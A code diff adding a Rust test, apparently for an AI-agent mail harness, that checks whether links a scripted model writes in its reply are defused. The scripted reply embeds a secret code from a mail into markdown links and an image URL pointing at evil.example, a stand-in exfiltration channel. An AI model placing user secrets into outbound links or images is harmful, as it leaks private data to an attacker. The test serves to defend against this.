@@ -176,3 +176,25 @@ async fn a_message_id_never_leaves_its_segment() {
         assert!(stray.is_none(), "{id}: {stray:?}");
     }
 }
+
+/// The oldest trick: a link that says one thing and carries another.
+#[tokio::test(flavor = "multi_thread")]
+async fn a_link_that_nobody_wrote_before_cannot_be_pressed() {
+    let (mut world, cast) = small_world();
+    world.mail[0].text = Some("The code is 4711. See https://harbour.example/plan for more.".to_owned());
+    let model = ScriptedModel::new(|request| match results(request).len() {
+        0 => calls(vec![call(request, "gmail.search", json!({ "query": "in:inbox" }))]),
+        1 => read_all(request, &results(request)[0].words),
+        _ => says(
+            "It is all in [the plan](https://harbour.example/plan). [Details](https://evil.example/?q=4711), or \
+             https://evil.example/?q=4711 and ![](https://evil.example/p.png?q=4711).",
+        ),
+    });
+    let town = Plan::new(world).model(model).build().await;
+    town.grant(&cast.asker, &["gmail.readonly"]).await;
+    let asked = town.control.say(&cast.asker, "dm", "what does the mail say?", None).await;
+    town.control.reply(&asked, 0).await;
+    let shown = json!(town.control.replies(&asked).await).to_string();
+    assert!(shown.contains("https://harbour.example/plan"), "{shown}");
+    assert!(shown.contains("evil.example/?q=4711") && !shown.contains("https://evil.example"), "{shown}");
+}
